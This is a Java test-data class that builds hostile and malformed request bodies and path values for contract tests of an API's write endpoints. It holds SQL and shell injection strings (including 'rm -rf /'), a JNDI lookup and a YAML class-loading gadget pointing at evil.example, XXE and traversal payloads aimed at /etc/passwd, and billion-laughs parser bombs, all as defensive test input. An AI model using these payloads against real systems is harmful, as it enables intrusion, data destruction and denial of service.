package dev.runway.common.testing;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;

/**
 * Hostile and broken input for write endpoints: bodies that are not JSON or YAML at all, parser bombs, bodies
 * of the right shape with values of the wrong type or with injection payloads in every string, and path
 * parameter values that try traversal or smuggle metacharacters. Pure data; {@link BadInputContractTests}
 * sends it.
 */
public final class BadInputCorpus {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    /** One request body to send, under its content type. */
    public record BodyCase(String name, String contentType, byte[] body) {
        static BodyCase of(String name, String contentType, String body) {
            return new BodyCase(name, contentType, body.getBytes(StandardCharsets.UTF_8));
        }
    }

    private BadInputCorpus() {
    }

    /**
     * Strings no identifier, name or reference accepts: SQL, shell, LDAP and template metacharacters, Unicode
     * that looks like ASCII or reorders text, control characters, traversal, and sheer length.
     */
    public static Map<String, String> hostileStrings() {
        Map<String, String> s = new LinkedHashMap<>();
        s.put("sql quote", "x'; DROP TABLE entity; --");
        s.put("sql union", "x\" UNION SELECT usename, passwd FROM pg_shadow --");
        s.put("sql comment", "x/**/OR/**/1=1");
        s.put("shell substitution", "$(touch /tmp/pwned)");
        s.put("shell backticks", "`id`");
        s.put("shell chain", "x; rm -rf / && echo");
        s.put("ldap filter", "*)(uid=*))(|(uid=*");
        s.put("ldap dn", "cn=admin,dc=runway,dc=dev");
        s.put("template expression", "${jndi:ldap://evil.example/a}");
        s.put("html", "<script>alert(1)</script>");
        s.put("traversal", "../../../../etc/passwd");
        s.put("windows traversal", "..\\..\\windows\\win.ini");
        s.put("dot dot", "..");
        s.put("nul byte", "x\u0000y");
        s.put("control characters", "x\r\nSet-Cookie: a=b");
        s.put("right-to-left override", "abc\u202Efdp.exe");
        s.put("zero-width joiner", "pay\u200Dments");
        s.put("cyrillic homoglyph", "p\u0430yments");
        s.put("fullwidth", "\uFF50\uFF41\uFF59");
        s.put("emoji", "team-\uD83D\uDE80");
        s.put("lone surrogate", "x\uD800y");
        s.put("combining marks", "e\u0301\u0301\u0301\u0301");
        s.put("only whitespace", " \t ");
        s.put("leading hyphen", "-x");
        s.put("very long", "a".repeat(5_000));
        return s;
    }

    /** Path parameter values: each {@link #hostileStrings()} value plus traversal that is already percent-encoded. */
    public static Map<String, String> pathValues() {
        Map<String, String> values = new LinkedHashMap<>();
        hostileStrings().forEach((name, value) -> values.put(name, encodePathSegment(value)));
        // Long, but within the HTTP request line limit (4096): beyond it Vert.x's codec answers 414 itself.
        values.put("very long", "a".repeat(2_000));
        values.put("encoded traversal", "..%2F..%2Fetc%2Fpasswd");
        values.put("double-encoded traversal", "%252e%252e%252fetc");
        values.put("overlong utf-8 slash", "%c0%af");
        values.put("encoded nul", "%00");
        return values;
    }

    /**
     * Paths the HTTP layer refuses before any Runway code runs, with a bare status and no body: Quarkus checks the
     * URI with {@code java.net.URI} (400) and Vert.x bounds the request line (414). They can only be held to a 4xx.
     */
    public static Map<String, String> transportRefusedPathValues() {
        Map<String, String> values = new LinkedHashMap<>();
        values.put("invalid percent escape", "%zz");
        values.put("truncated percent escape", "x%2");
        values.put("raw space", "a b");
        values.put("request line over 4096", "a".repeat(5_000));
        return values;
    }

    /** Bodies that no JSON endpoint may accept, whatever its schema. */
    public static List<BodyCase> malformedJson(String contentType) {
        List<BodyCase> c = new ArrayList<>();
        c.add(BodyCase.of("empty body", contentType, ""));
        c.add(BodyCase.of("whitespace body", contentType, "  \n "));
        c.add(BodyCase.of("unclosed object", contentType, "{"));
        c.add(BodyCase.of("unclosed array", contentType, "["));
        c.add(BodyCase.of("stray brace", contentType, "}"));
        c.add(BodyCase.of("missing value", contentType, "{\"name\":}"));
        c.add(BodyCase.of("single quotes", contentType, "{'name':'x'}"));
        c.add(BodyCase.of("unquoted key", contentType, "{name:\"x\"}"));
        c.add(BodyCase.of("trailing comma", contentType, "{\"name\":\"x\",}"));
        c.add(BodyCase.of("trailing garbage", contentType, "{} {}"));
        c.add(BodyCase.of("comment", contentType, "{/* hi */}"));
        c.add(BodyCase.of("NaN", contentType, "{\"name\":NaN}"));
        c.add(BodyCase.of("huge exponent", contentType, "{\"name\":1e999999999}"));
        c.add(BodyCase.of("huge integer", contentType, "{\"name\":" + "9".repeat(2_000) + "}"));
        c.add(BodyCase.of("bare null", contentType, "null"));
        c.add(BodyCase.of("bare number", contentType, "42"));
        c.add(BodyCase.of("bare string", contentType, "\"x\""));
        c.add(BodyCase.of("bare true", contentType, "true"));
        c.add(BodyCase.of("empty object", contentType, "{}"));
        c.add(BodyCase.of("array of nothing", contentType, "[]"));
        c.add(BodyCase.of("array of nulls", contentType, "[null,null]"));
        c.add(BodyCase.of("unterminated string", contentType, "{\"name\":\"x"));
        c.add(BodyCase.of("bad escape", contentType, "{\"name\":\"\\q\"}"));
        c.add(BodyCase.of("raw control character", contentType, "{\"name\":\"a\u0001b\"}"));
        c.add(BodyCase.of("nul byte", contentType, "\u0000"));
        c.add(new BodyCase("invalid utf-8", contentType, new byte[] { '{', '"', 'n', '"', ':', '"', (byte) 0xC3,
                (byte) 0x28, '"', '}' }));
        c.add(new BodyCase("utf-16 body", contentType, "{\"name\":\"x\"}".getBytes(StandardCharsets.UTF_16)));
        c.add(new BodyCase("binary", contentType, new byte[] { (byte) 0x89, 'P', 'N', 'G', 0, 0, 0, 13, (byte) 0xFF }));
        c.add(BodyCase.of("deeply nested arrays", contentType, "[".repeat(100_000) + "]".repeat(100_000)));
        c.add(BodyCase.of("deeply nested objects", contentType,
                "{\"a\":".repeat(20_000) + "1" + "}".repeat(20_000)));
        c.add(BodyCase.of("unbalanced nesting", contentType, "[".repeat(50_000)));
        c.add(BodyCase.of("very long key", contentType, "{\"" + "k".repeat(100_000) + "\":1}"));
        c.add(BodyCase.of("prototype pollution keys", contentType,
                "{\"__proto__\":{\"admin\":true},\"constructor\":{\"prototype\":{\"admin\":true}}}"));
        c.add(BodyCase.of("YAML sent as JSON", contentType, "name: x\nteam: payments\n"));
        c.add(BodyCase.of("XML sent as JSON", contentType, "<?xml version=\"1.0\"?><a>x</a>"));
        return c;
    }

    /** A body the endpoint does not take at all: the media type alone must refuse it (415). */
    public static List<BodyCase> wrongMediaTypes() {
        return List.of(
                BodyCase.of("text/plain body", "text/plain", "{}"),
                BodyCase.of("XML body", "application/xml", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM"
                        + " \"file:///etc/passwd\">]><a>&x;</a>"),
                BodyCase.of("form body", "application/x-www-form-urlencoded", "name=x&team=payments"),
                BodyCase.of("multipart body", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition:"
                        + " form-data; name=\"f\"\r\n\r\nx\r\n--b--\r\n"),
                BodyCase.of("octet stream", "application/octet-stream", "\u0000\u0001"));
    }

    /** YAML that breaks parsers or resources: alias bombs, deep nesting, tags that would instantiate classes. */
    public static List<BodyCase> hostileYaml(String contentType) {
        List<BodyCase> c = new ArrayList<>();
        c.add(BodyCase.of("billion laughs", contentType, billionLaughs()));
        StringBuilder quadratic = new StringBuilder("a: &a [" + "\"lol\",".repeat(1_000) + "\"lol\"]\nb: [");
        quadratic.append("*a,".repeat(5_000)).append("*a]\n");
        c.add(BodyCase.of("quadratic aliases", contentType, quadratic.toString()));
        c.add(BodyCase.of("deep block nesting", contentType, deepBlockYaml(500)));
        c.add(BodyCase.of("deep flow nesting", contentType, "a: " + "[".repeat(50_000) + "]".repeat(50_000)));
        c.add(BodyCase.of("unbalanced flow nesting", contentType, "a: " + "{x: ".repeat(30_000)));
        c.add(BodyCase.of("recursive alias", contentType, "a: &a [*a]\n"));
        c.add(BodyCase.of("undefined alias", contentType, "a: *nope\n"));
        c.add(BodyCase.of("java type tag", contentType,
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n"));
        c.add(BodyCase.of("python tag", contentType, "a: !!python/object/apply:os.system [\"id\"]\n"));
        c.add(BodyCase.of("bad indentation", contentType, "apiVersion: backstage.io/v1alpha1\n  kind: Component\n kind: x\n"));
        c.add(BodyCase.of("tab indentation", contentType, "metadata:\n\tname: x\n"));
        c.add(BodyCase.of("unclosed flow", contentType, "metadata: {name: x\n"));
        c.add(BodyCase.of("unclosed quote", contentType, "metadata:\n  name: \"x\n"));
        c.add(BodyCase.of("duplicate anchors and merge", contentType,
                "base: &b {a: 1}\nx:\n  <<: *b\n  <<: *b\n  <<: [*b, *b, *b]\n"));
        c.add(BodyCase.of("only document markers", contentType, "---\n---\n---\n...\n"));
        c.add(BodyCase.of("only comments", contentType, "# nothing\n# here\n"));
        c.add(BodyCase.of("scalar document", contentType, "just a string\n"));
        c.add(BodyCase.of("sequence document", contentType, "- a\n- b\n"));
        c.add(BodyCase.of("nul byte", contentType, "a: \u0000\n"));
        c.add(BodyCase.of("directive garbage", contentType, "%YAML 9.9\n%TAG ! tag:evil:\n--- !x\na: 1\n"));
        c.add(BodyCase.of("very long key", contentType, "k" + "k".repeat(200_000) + ": 1\n"));
        c.add(BodyCase.of("many documents of garbage", contentType, "---\n- [\n".repeat(2_000)));
        return c;
    }

    /**
     * Catalog descriptors (Backstage format) of the right shape that must still be refused: wrong types, unknown
     * root fields, injection payloads in every identifier field.
     */
    public static List<BodyCase> hostileDescriptors(String contentType) {
        List<BodyCase> c = new ArrayList<>();
        ObjectNode base = descriptor("badinput-component");
        for (Map.Entry<String, String> s : hostileStrings().entrySet()) {
            ObjectNode named = base.deepCopy();
            ((ObjectNode) named.get("metadata")).put("name", s.getValue());
            c.add(json("descriptor name: " + s.getKey(), contentType, named));
            ObjectNode namespaced = base.deepCopy();
            ((ObjectNode) namespaced.get("metadata")).put("namespace", s.getValue());
            c.add(json("descriptor namespace: " + s.getKey(), contentType, namespaced));
            ObjectNode kinded = base.deepCopy();
            kinded.put("kind", s.getValue());
            c.add(json("descriptor kind: " + s.getKey(), contentType, kinded));
        }
        c.addAll(wrongTypes("descriptor", contentType, base));
        ObjectNode unknownRoot = base.deepCopy();
        unknownRoot.put("extra", "x");
        c.add(json("descriptor unknown root field", contentType, unknownRoot));
        ObjectNode uid = base.deepCopy();
        ((ObjectNode) uid.get("metadata")).put("uid", "00000000-0000-4000-8000-000000000000");
        ((ObjectNode) uid.get("metadata")).put("name", "x".repeat(64));
        c.add(json("descriptor server-generated uid and long name", contentType, uid));
        ObjectNode missingApiVersion = base.deepCopy();
        missingApiVersion.remove("apiVersion");
        c.add(json("descriptor without apiVersion", contentType, missingApiVersion));
        return c;
    }

    /**
     * A body following the endpoint's documented schema (every property present, plausible values), then the
     * same body with each property of the wrong JSON type and with a hostile value in every string property.
     * Wrong types are those Jackson never coerces: containers for scalars, scalars and objects for arrays.
     */
    public static List<BodyCase> schemaCases(String contentType, ObjectNode skeleton) {
        List<BodyCase> c = new ArrayList<>();
        c.addAll(wrongTypes("field", contentType, skeleton));
        for (Map.Entry<String, String> s : hostileStrings().entrySet()) {
            ObjectNode hostile = skeleton.deepCopy();
            if (replaceStrings(hostile, s.getValue())) {
                c.add(json("every string field: " + s.getKey(), contentType, hostile));
            }
        }
        ObjectNode unknown = skeleton.deepCopy();
        unknown.put("id", "00000000-0000-4000-8000-000000000000");
        unknown.put("createdBy", "mallory");
        unknown.set("__proto__", NODES.objectNode().put("admin", true));
        replaceStrings(unknown, "../../etc/passwd");
        c.add(json("server-owned and unknown fields", contentType, unknown));
        return c;
    }

    /** An example body for a JSON schema from an OpenAPI document, resolving {@code $ref}s into its components. */
    public static JsonNode skeleton(JsonNode schema, JsonNode openApi, int depth) {
        JsonNode resolved = resolve(schema, openApi);
        if (depth > 6 || resolved == null || resolved.isMissingNode()) {
            return NODES.textNode("badinput");
        }
        String type = resolved.path("type").asText("");
        if (resolved.has("properties") || type.equals("object")) {
            ObjectNode o = NODES.objectNode();
            for (Iterator<Map.Entry<String, JsonNode>> it = resolved.path("properties").fields(); it.hasNext();) {
                Map.Entry<String, JsonNode> p = it.next();
                o.set(p.getKey(), skeleton(p.getValue(), openApi, depth + 1));
            }
            return o;
        }
        return switch (type) {
            case "array" -> NODES.arrayNode().add(skeleton(resolved.path("items"), openApi, depth + 1));
            case "integer", "number" -> NODES.numberNode(1);
            case "boolean" -> NODES.booleanNode(true);
            default -> switch (resolved.path("format").asText("")) {
                case "uuid" -> NODES.textNode("00000000-0000-4000-8000-000000000000");
                case "date-time" -> NODES.textNode("2026-01-01T00:00:00Z");
                default -> resolved.has("enum") && resolved.path("enum").size() > 0 ? resolved.path("enum").get(0)
                        : NODES.textNode("badinput");
            };
        };
    }

    private static JsonNode resolve(JsonNode schema, JsonNode openApi) {
        JsonNode s = schema;
        for (int i = 0; i < 10 && s != null && s.has("$ref"); i++) {
            String ref = s.get("$ref").asText();
            s = ref.startsWith("#/") ? openApi.at(ref.substring(1)) : null;
        }
        if (s != null && s.has("allOf") && s.get("allOf").size() == 1) {
            return resolve(s.get("allOf").get(0), openApi);
        }
        return s;
    }

    private static List<BodyCase> wrongTypes(String prefix, String contentType, ObjectNode base) {
        List<BodyCase> c = new ArrayList<>();
        List<String> paths = new ArrayList<>();
        collectLeaves(base, "", paths);
        for (String path : paths) {
            JsonNode current = base.at(path);
            List<JsonNode> wrong = new ArrayList<>();
            if (current.isTextual() || current.isNumber() || current.isBoolean()) {
                wrong.add(NODES.objectNode().put("x", 1));
                wrong.add(NODES.arrayNode().add(NODES.objectNode()));
            }
            if (current.isNumber()) {
                wrong.add(NODES.textNode("not-a-number"));
            }
            if (current.isBoolean()) {
                wrong.add(NODES.textNode("maybe"));
            }
            if (current.isArray()) {
                wrong.add(NODES.objectNode().put("x", 1));
                wrong.add(NODES.textNode("not-a-list"));
            }
            for (JsonNode w : wrong) {
                ObjectNode copy = base.deepCopy();
                set(copy, path, w);
                c.add(json(prefix + " " + path + " as " + w.getNodeType().name().toLowerCase(), contentType, copy));
            }
        }
        return c;
    }

    private static void collectLeaves(JsonNode node, String path, List<String> out) {
        if (node.isObject() && node.size() > 0) {
            node.fields().forEachRemaining(e -> collectLeaves(e.getValue(), path + "/" + e.getKey(), out));
        } else if (!path.isEmpty()) {
            out.add(path);
        }
    }

    private static void set(ObjectNode root, String pointer, JsonNode value) {
        int slash = pointer.lastIndexOf('/');
        ((ObjectNode) root.at(pointer.substring(0, slash))).set(pointer.substring(slash + 1), value);
    }

    private static boolean replaceStrings(JsonNode node, String value) {
        boolean replaced = false;
        if (node instanceof ObjectNode o) {
            List<String> names = new ArrayList<>();
            o.fieldNames().forEachRemaining(names::add);
            for (String name : names) {
                if (o.get(name).isTextual()) {
                    o.put(name, value);
                    replaced = true;
                } else {
                    replaced |= replaceStrings(o.get(name), value);
                }
            }
        } else if (node instanceof ArrayNode a) {
            for (int i = 0; i < a.size(); i++) {
                if (a.get(i).isTextual()) {
                    a.set(i, NODES.textNode(value));
                    replaced = true;
                } else {
                    replaced |= replaceStrings(a.get(i), value);
                }
            }
        }
        return replaced;
    }

    private static ObjectNode descriptor(String name) {
        ObjectNode d = NODES.objectNode();
        d.put("apiVersion", "backstage.io/v1alpha1");
        d.put("kind", "Component");
        d.putObject("metadata").put("name", name).put("namespace", "default");
        d.putObject("spec").put("type", "service").put("lifecycle", "production").put("owner", "group:default/payments");
        return d;
    }

    private static BodyCase json(String name, String contentType, JsonNode body) {
        try {
            return new BodyCase(name, contentType, JSON.writeValueAsBytes(body));
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static String billionLaughs() {
        StringBuilder y = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char previous = 'a';
        for (char level = 'b'; level <= 'i'; level++) {
            y.append(level).append(": &").append(level).append(" [");
            for (int i = 0; i < 9; i++) {
                y.append(i == 0 ? "" : ",").append('*').append(previous);
            }
            y.append("]\n");
            previous = level;
        }
        return y.toString();
    }

    private static String deepBlockYaml(int depth) {
        StringBuilder y = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            y.append("  ".repeat(i)).append("k").append(i).append(":\n");
        }
        y.append("  ".repeat(depth)).append("v\n");
        return y.toString();
    }

    static String encodePathSegment(String value) {
        StringBuilder sb = new StringBuilder();
        for (byte b : value.getBytes(StandardCharsets.UTF_8)) {
            int c = b & 0xFF;
            if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-' || c == '_'
                    || c == '.' || c == '~') {
                sb.append((char) c);
            } else {
                sb.append('%').append(String.format("%02X", c));
            }
        }
        return sb.toString();
    }
}
